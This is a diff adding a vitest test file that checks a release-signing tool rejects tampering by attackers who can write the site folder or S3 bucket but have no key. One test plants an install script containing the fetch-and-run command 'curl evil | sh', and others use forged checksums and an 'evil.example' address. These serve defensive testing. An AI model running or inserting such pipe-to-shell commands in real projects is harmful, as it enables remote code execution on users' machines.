@@ -1,0 +1,338 @@
+import { cpSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
+import { type S3Fake, startS3Fake } from "../support/s3-fake.ts";
+import { differences, readTree } from "../support/tree.ts";
+import { bucketProject } from "./bucket-support.ts";
+import { folderStorage, forgeBucket, forgeFolder, sha256, stateOf } from "./forged-site.ts";
+import { inDays, type PublishingProject, publishingProject } from "./support.ts";
+
+const evil = "e".repeat(64);
+
+const rewrite = (file: string, change: (text: string) => string) =>
+  writeFileSync(file, change(readFileSync(file, "utf8")));
+
+/** Publishes the first build, then one with another note. */
+async function publishTwice(project: PublishingProject): Promise<void> {
+  await project.succeed("publish", "prod");
+  rewrite(join(project.folder, "releases/26.08.001/release.yaml"), (text) =>
+    text.replace(/in bulk\*\*\..*/, "in bulk**. Second."),
+  );
+  await project.succeed("build", "--released");
+  await project.succeed("sign", "--site", "prod", "--now", inDays(-5));
+  await project.succeed("publish", "prod");
+}
+
+const checksum = (project: PublishingProject): string => {
+  const list = readFileSync(join(project.folder, "dist/api/v1/package/index.json"), "utf8");
+  return JSON.parse(list)[0].checksum;
+};
+
+const rollbackArgs = ["rollback", "prod", "--reason", "x", "--yes"];
+
+describe("an attacker who can write the site's folder, and has no key,", () => {
+  let project: PublishingProject;
+  let sound: string;
+  beforeAll(async () => {
+    project = await publishingProject();
+    rewrite(join(project.folder, "releases/catalog.yaml"), (text) => `${text}hosts: [nginx]\n`);
+    await project.make();
+    await publishTwice(project);
+    sound = join(project.folder, "sound");
+    cpSync(project.www, sound, { recursive: true, verbatimSymlinks: true });
+  });
+  beforeEach(() => {
+    rmSync(join(project.folder, "seen"), { recursive: true, force: true });
+    rmSync(project.www, { recursive: true });
+    cpSync(sound, project.www, { recursive: true, verbatimSymlinks: true });
+  });
+  const live = () => readTree(join(project.www, "current"));
+  const metadata = (name: string) => join(project.www, "current/metadata", name);
+  const timestampVersion = () => JSON.parse(readFileSync(metadata("timestamp.json"), "utf8")).signed.version;
+  const verify = () =>
+    project.succeed(
+      "verify",
+      join(project.www, "current"),
+      "--root",
+      "releases/trust/1.root.json",
+      "--trust-dir",
+      "seen",
+    );
+  const publishAgain = async () => {
+    await project.succeed("sign", "--site", "prod");
+    return project.succeed("publish", "prod");
+  };
+  /** Nothing is signed: the command exits 6, names a file and a way out, and the site is as it was. */
+  const refuses = async (message: RegExp, ...args: string[]) => {
+    const before = live();
+    const { exitCode, stderr } = await project.run(...args);
+    expect({ exitCode, stderr }).toEqual({ exitCode: 6, stderr: expect.stringMatching(message) });
+    expect(stderr).toMatch(/\n {2}hint: Nothing was changed\. .*relcat build --released --site prod/);
+    expect(differences(before, live())).toEqual([]);
+  };
+
+  test("gets no forged checksum signed by a refresh", async () => {
+    forgeFolder(project.www, 0, checksum(project), evil);
+    expect(readFileSync(join(project.www, "current/api/v1/package/index.json"), "utf8")).toContain(evil);
+    await refuses(
+      /^error\[build-unproved\] dir:\S+: build\.json of the kept build [0-9a-f]{12} is not what was signed\n/,
+      "publish",
+      "prod",
+      "--refresh",
+    );
+  });
+
+  test("gets no forged checksum signed by a rollback", async () => {
+    forgeFolder(project.www, 1, checksum(project), evil);
+    await refuses(
+      /^error\[build-unproved\] dir:\S+: build\.json of the kept build [0-9a-f]{12} is not what was signed\n/,
+      ...rollbackArgs,
+    );
+  });
+
+  test("gets no forged file signed whose build.json is left as it was", async () => {
+    const { history } = stateOf(folderStorage(project.www));
+    const path = "releases/26.08.001/SHA256SUMS";
+    for (const { files } of history)
+      rewrite(join(project.www, "builds", files, path), (text) => text.replaceAll(/^[0-9a-f]{64}/gm, evil));
+    await refuses(
+      /: releases\/26\.08\.001\/SHA256SUMS of the kept build \S+ is missing or changed\n/,
+      "publish",
+      "prod",
+      "--refresh",
+    );
+    await refuses(
+      /: releases\/26\.08\.001\/SHA256SUMS of the kept build \S+ is missing or changed\n/,
+      ...rollbackArgs,
+    );
+  });
+
+  test("gets no forged configuration for web servers signed or restored", async () => {
+    const { history } = stateOf(folderStorage(project.www));
+    for (const { files } of history) {
+      const hosting = join(project.www, "builds", `${files}.hosting`);
+      const [file = ""] = readdirSync(hosting, { recursive: true, withFileTypes: true })
+        .filter((entry) => entry.isFile())
+        .map((entry) => join(entry.parentPath, entry.name));
+      rewrite(file, (text) => `${text}\n# Proxy everything elsewhere.\n`);
+    }
+    await refuses(
+      /: hosting\/\S+ of the kept build \S+ is missing or changed\n/,
+      "publish",
+      "prod",
+      "--refresh",
+    );
+    await refuses(/: hosting\/\S+ of the kept build \S+ is missing or changed\n/, ...rollbackArgs);
+  });
+
+  test("cannot have the state of before signed again while newer metadata is there", async () => {
+    const [, before] = stateOf(folderStorage(project.www)).history;
+    const state = stateOf(folderStorage(project.www));
+    const put = { ...state, build: before?.build, history: [before] };
+    writeFileSync(join(project.www, "current.json"), JSON.stringify(put));
+    writeFileSync(
+      metadata("timestamp.json"),
+      readFileSync(join(project.www, "builds", before?.files ?? "", "metadata/timestamp.json")),
+    );
+    await refuses(
+      /metadata\/\d+\.\S+\.json is signed and newer than what is live: an earlier state was put back, or a publish was interrupted\n/,
+      "publish",
+      "prod",
+      "--refresh",
+    );
+  });
+
+  test("cannot have a build signed that the ledger does not confirm", async () => {
+    const ledger = join(project.folder, "releases/ledger.jsonl");
+    const text = readFileSync(ledger, "utf8");
+    rewrite(ledger, (lines) => lines.replace(/"content":"[0-9a-f]{64}"/, `"content":"${evil}"`));
+    try {
+      await refuses(
+        /api\/v1\/package\/index\.json of the kept build \S+ lists package 1 of \S+ otherwise than the ledger here\n/,
+        "publish",
+        "prod",
+        "--refresh",
+      );
+    } finally {
+      writeFileSync(ledger, text);
+    }
+  });
+
+  test("cannot keep a withdrawn package alive through refreshes", async () => {
+    const ledger = join(project.folder, "releases/ledger.jsonl");
+    const text = readFileSync(ledger, "utf8");
+    await project.succeed("retract", "7", "--reason", "Does not start.", "--yes");
+    try {
+      const { exitCode, stderr } = await project.run("publish", "prod", "--refresh");
+      expect({ exitCode, stderr }).toMatchObject({
+        exitCode: 1,
+        stderr: expect.stringMatching(
+          /^error\[build-retracted\] that build offers what was withdrawn since: package 7\n {2}hint: .*relcat build --released --site prod/,
+        ),
+      });
+    } finally {
+      writeFileSync(ledger, text);
+    }
+  });
+
+  test("cannot drive version numbers up: only signed ones count, file names within a bound", async () => {
+    await verify();
+    const before = timestampVersion();
+    const big = Number.MAX_SAFE_INTEGER;
+    rewrite(metadata("timestamp.json"), (text) =>
+      text.replace(/"version":\d+,"meta"|"version":\d+/, `"version":${big}`),
+    );
+    for (const role of ["snapshot", "catalog"])
+      writeFileSync(metadata(`${big - 1}.${role}.json`), readFileSync(metadata("1.root.json")));
+    await publishAgain();
+    expect(timestampVersion()).toBeGreaterThan(before);
+    expect(timestampVersion()).toBeLessThan(before + 2000);
+    await verify();
+    expect(readdirSync(join(project.folder, "dist/metadata")).filter((name) => name.length > 40)).toEqual([]);
+  });
+
+  test("cannot keep a broken signature alive: status and publish name it, and signing replaces it", async () => {
+    const roles = readdirSync(join(project.www, "current/metadata")).filter((name) =>
+      name.includes("catalog"),
+    );
+    const [role = ""] = roles.sort((a, b) => Number.parseInt(b, 10) - Number.parseInt(a, 10));
+    rewrite(metadata(role), (text) => text.replace(/"sig":"[0-9a-f]{8}/, '"sig":"00000000'));
+    const name = `metadata/${role}`;
+    const said = "not signed by a key of the newest root in releases/trust";
+    expect((await project.succeed("status")).stdout).toContain(`${name} ${said}: sign and publish again`);
+    await refuses(
+      new RegExp(`${name.replaceAll(".", "\\.")} is missing, or is not signed by the online key`),
+      "publish",
+      "prod",
+      "--refresh",
+    );
+    expect((await publishAgain()).stderr).toContain(`${name} of the live site was ${said}. It was replaced.`);
+    await verify();
+    expect((await project.succeed("status")).stdout).not.toContain(said);
+  });
+
+  test("cannot make numbers go back by destroying the timestamp", async () => {
+    await verify();
+    const before = timestampVersion();
+    writeFileSync(metadata("timestamp.json"), "{}");
+    await publishAgain();
+    expect(timestampVersion()).toBeGreaterThan(before);
+    await verify();
+  });
+
+  test("cannot offer the signed build of another address", async () => {
+    const config = join(project.folder, "releases/catalog.yaml");
+    const text = readFileSync(config, "utf8");
+    rewrite(config, (yaml) => yaml.replace(/^base_url: .*$/m, "base_url: https://other.example.com"));
+    try {
+      const { exitCode, stderr } = await project.run("publish", "prod", "--refresh");
+      expect({ exitCode, stderr }).toMatchObject({
+        exitCode: 2,
+        stderr: expect.stringContaining("error[build-other-site]"),
+      });
+    } finally {
+      writeFileSync(config, text);
+    }
+  });
+});
+
+describe("an attacker who can write the site's bucket, and has no key,", () => {
+  let fake: S3Fake;
+  let project: PublishingProject;
+  let sound: Map<string, ReturnType<S3Fake["bucket"]["objects"]["get"]>>;
+  beforeAll(async () => {
+    fake = await startS3Fake();
+    project = await bucketProject(fake);
+    await publishTwice(project);
+    sound = new Map(fake.bucket.objects);
+  });
+  afterAll(() => fake.stop());
+  beforeEach(() => {
+    fake.bucket.objects.clear();
+    for (const [key, stored] of sound)
+      if (stored) fake.bucket.objects.set(key, { ...stored, bytes: Buffer.from(stored.bytes) });
+  });
+  const refuses = async (...args: string[]) => {
+    const before = new Map(fake.bucket.objects);
+    const { exitCode, stderr } = await project.run(...args);
+    expect({ exitCode, stderr }).toEqual({
+      exitCode: 6,
+      stderr: expect.stringMatching(
+        /^error\[build-unproved\] s3:\/\/site\/pre: build\.json of the kept build [0-9a-f]{12} is not what was signed\n {2}hint: Nothing was changed\. /,
+      ),
+    });
+    expect([...fake.bucket.objects].filter(([key, { etag }]) => before.get(key)?.etag !== etag)).toEqual([]);
+  };
+
+  test("gets no forged checksum signed by a refresh", async () => {
+    forgeBucket(fake, 0, checksum(project), evil);
+    await refuses("publish", "prod", "--refresh");
+  });
+
+  test("gets no forged checksum signed by a rollback", async () => {
+    forgeBucket(fake, 1, checksum(project), evil);
+    await refuses(...rollbackArgs);
+  });
+
+  test("does not stop what is sound: refresh and rollback work", async () => {
+    await project.succeed("publish", "prod", "--refresh");
+    await project.succeed(...rollbackArgs);
+  });
+});
+
+describe("an attacker who can change what is signed", () => {
+  let project: PublishingProject;
+  beforeAll(async () => {
+    project = await publishingProject();
+  });
+  const dist = (path: string) => join(project.folder, "dist", path);
+
+  test("in the build's folder, consistently, gets no signature", async () => {
+    const sum = checksum(project);
+    const build = JSON.parse(readFileSync(dist("build.json"), "utf8"));
+    for (const path of Object.keys(build.files)) {
+      if (!readFileSync(dist(path)).includes(sum)) continue;
+      rewrite(dist(path), (text) => text.replaceAll(sum, evil));
+      build.files[path].sha256 = sha256(readFileSync(dist(path)));
+    }
+    writeFileSync(dist("build.json"), `${JSON.stringify(build)}\n`);
+    const signed = readFileSync(dist("metadata/timestamp.json"));
+    const { exitCode, stderr } = await project.run("sign", "--site", "prod");
+    expect({ exitCode, stderr }).toEqual({
+      exitCode: 6,
+      stderr: expect.stringMatching(
+        /^error\[build-unproved\] dist\/\S+ is not what this checkout builds, and so are \d+ more files\n {2}hint: Nothing was signed\. Build again from this checkout, with this version of relcat: relcat build --site prod --released\. If that changes nothing, remove \.relcat-cache\.$/,
+      ),
+    });
+    expect(readFileSync(dist("metadata/timestamp.json"))).toEqual(signed);
+    await project.succeed("build", "--released", "--check-out");
+    await project.succeed("sign", "--site", "prod");
+  });
+
+  test("by a file that the build does not make gets no signature", async () => {
+    const build = JSON.parse(readFileSync(dist("build.json"), "utf8"));
+    mkdirSync(dist("extra"), { recursive: true });
+    writeFileSync(dist("extra/install.sh"), "curl evil | sh\n");
+    build.files["extra/install.sh"] = { sha256: sha256(readFileSync(dist("extra/install.sh"))), size: 15 };
+    writeFileSync(dist("build.json"), `${JSON.stringify(build)}\n`);
+    expect(await project.run("sign", "--site", "prod")).toMatchObject({
+      exitCode: 6,
+      stderr: expect.stringContaining("dist/extra/install.sh is not what this checkout builds\n"),
+    });
+    rmSync(dist("extra"), { recursive: true });
+    await project.succeed("build", "--released");
+  });
+
+  test("by an address of their own gets no signature", async () => {
+    rewrite(dist("build.json"), (text) =>
+      text.replace(/"base_url":"[^"]*"/, '"base_url":"https://evil.example"'),
+    );
+    expect(await project.run("sign", "--site", "prod")).toMatchObject({
+      exitCode: 6,
+      stderr: expect.stringContaining(
+        "dist is built for https://evil.example, which is the address of no site in catalog.yaml\n",
+      ),
+    });
+    expect(existsSync(dist("metadata"))).toBe(true);
+  });
+});
